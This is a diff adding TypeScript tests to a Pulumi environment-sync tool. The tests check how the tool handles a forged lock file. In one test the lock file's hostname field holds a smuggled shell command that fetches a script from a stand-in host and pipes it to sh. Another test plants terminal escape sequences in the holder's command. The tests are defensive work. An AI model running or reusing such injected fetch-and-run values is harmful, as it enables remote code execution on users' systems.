@@ -168,3 +168,31 @@ describe("attack: DATA_SYNC_STACK and DATA_SYNC_ENVIRONMENT left in a workstatio
     assert.equal(fs.existsSync(path.join(folder, "live.db")), false);
   });
 });
+
+describe("attack: a lock file crafted by hand", () => {
+  const lockedDev = (holder: object) => {
+    const folder = folderWith({ "Pulumi.yaml": project, "Pulumi.dev.yaml": "config:\n  trading-bot:environment: development\n", "Pulumi.qa.yaml": "config:\n  trading-bot:environment: development\n" });
+    const lockFile = path.join(folder, "Pulumi.dev.yaml.lock");
+    fs.writeFileSync(lockFile, JSON.stringify(holder));
+    return { folder, lockFile };
+  };
+  const startedAt = new Date(Date.now() - 3600_000).toISOString();
+
+  it("never suggests a --break-lock whose host name would run a command when pasted into a shell", async () => {
+    const { folder, lockFile } = lockedDev({ pid: 4242, hostname: "ci;curl${IFS}x.invalid|sh", startedAt, command: "env-sync --from qa --to dev" });
+    const run = await inProcess(() => envSync(["--from", "qa", "--to", "dev", "-C", folder, "--lock-timeout", "0"], context));
+    assert.deepEqual(run, {
+      status: 2,
+      stdout: "",
+      stderr: `env-sync: Pulumi.dev.yaml is locked by a run that does not say who it is (${lockFile} is empty or not a lock file); waited 0 s. If no env-sync or promote is running, delete ${lockFile} and run again\n`,
+    });
+  });
+
+  it("prints a holder's command with its control characters escaped, never sent to the terminal", async () => {
+    const { folder } = lockedDev({ pid: 4242, hostname: "ci-runner-7", startedAt, command: "env-sync\u001b[2J\u001b]0;ok\u0007 done\r\n" });
+    const run = await inProcess(() => envSync(["--from", "qa", "--to", "dev", "-C", folder, "--lock-timeout", "0"], context));
+    assert.equal(run.status, 2);
+    assert.ok(run.stderr.includes("(env-sync\\u001b[2J\\u001b]0;ok\\u0007 done\\r\\n)"), run.stderr);
+    assert.doesNotMatch(run.stderr.slice(0, -1), /[\u0000-\u001f\u007f-\u009f]/);
+  });
+});
